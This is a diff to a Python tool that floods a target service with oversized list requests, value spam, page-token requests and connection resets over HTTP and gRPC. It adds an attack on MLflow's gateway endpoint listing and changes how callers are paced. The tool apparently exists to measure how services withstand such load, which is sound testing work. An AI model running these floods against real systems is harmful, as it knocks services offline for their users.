@@ -15,7 +15,6 @@ import socket
 import sys
 import threading
 import time
-from collections import deque
 from collections.abc import Callable, Iterator, Mapping
 from dataclasses import dataclass
 from typing import Any, Final, NamedTuple
@@ -230,10 +229,23 @@ def lists(victim: Victim) -> Steps:
     """Lists of 50,001 endpoints without a page size, by 32 callers over both transports, with a read token."""
     http, grpc, headers = _Http(victim), _Grpc(victim), {"content-type": "application/proto"}
     path = victim.path(LIST, victim.list_bytes)
+    yield 0
     while True:
         http.send(path, b"", headers)
         yield 1
         grpc.send(path, b"")
+        yield 1
+
+
+def rest_lists(victim: Victim) -> Steps:
+    """The same in MLflow's dialect, which has no pages, so that each is the whole list and too large, with a read token."""
+    http = _Http(victim)
+    yield 0
+    while True:
+        if victim.is_echo:
+            http.send(victim.path(LIST), b"", {})
+        else:
+            http.send("/api/3.0/mlflow/gateway/endpoints/list", b"", {}, "GET")
         yield 1
 
 
@@ -289,6 +301,7 @@ ATTACKS: Final = {
     "page-tokens": Attack(page_tokens, 200, "requests", scope="read"),
     "values": Attack(many_values, 2, "requests", scope="write"),
     "lists": Attack(lists, 20, "requests", callers=_CALLERS, scope="read"),
+    "rest-lists": Attack(rest_lists, 5, "requests", callers=_CALLERS, scope="read"),
     "resets": Attack(resets, 5000, "resets", scope="read"),
     "more-resets": Attack(resets, 13_400, "resets", scope="read"),
 }
@@ -301,14 +314,14 @@ class _Http:
         self._victim = victim
         self._connection: Any = None
 
-    def send(self, path: str, body: bytes, headers: Mapping[str, str]) -> None:
+    def send(self, path: str, body: bytes, headers: Mapping[str, str], verb: str = "POST") -> None:
         import http.client
 
         if self._connection is None:
             authority = self._victim.http.partition("://")[2]
             self._connection = http.client.HTTPConnection(authority, timeout=20)
         try:
-            self._connection.request("POST", path, body, {**headers, **self._victim.authorization()})
+            self._connection.request(verb, path, body, {**headers, **self._victim.authorization()})
             self._connection.getresponse().read()
         except (OSError, http.client.HTTPException):
             self._connection.close()
@@ -341,9 +354,8 @@ class Pace:
         self.count = 0
 
     def wait(self, units: int) -> None:
-        """Count units, and wait until more are due."""
+        """Wait after units until more are due."""
         with self._lock:
-            self.count += units
             self._next = max(self._next, time.monotonic() - _BURST_S) + units / self._rate
             due = self._next
         if (left := due - time.monotonic()) > 0:
@@ -356,19 +368,21 @@ def main() -> None:
     os.sched_setaffinity(0, {given["core"]})
     attack, victim = ATTACKS[given["attack"]], Victim(**given["victim"])
     pace = Pace(attack.rate * attack.size)
-    every = deque(attack.steps(victim) for _ in range(attack.callers))
-    for steps in every:
-        # Its preparation, and the first connection.
-        next(steps)
+    every = [attack.steps(victim) for _ in range(attack.callers)]
+    # Their preparation, and the first connections.
+    first = [next(steps) for steps in every]
 
-    def run(steps: Steps) -> None:
+    def run(steps: Steps, units: int) -> None:
+        # Callers begin one after another.
+        pace.wait(max(units, attack.size if attack.callers > 1 else 0))
         for units in steps:
+            pace.count += units
             pace.wait(units)
 
     print("ready", flush=True)
     began = time.monotonic()
-    for steps in every:
-        threading.Thread(target=run, args=(steps,), daemon=True).start()
+    for each in zip(every, first, strict=True):
+        threading.Thread(target=run, args=each, daemon=True).start()
     sys.stdin.read()
     print(json.dumps({"rate": pace.count / attack.size / (time.monotonic() - began)}), flush=True)
     # Without waiting for threads, whose requests may not be answered.
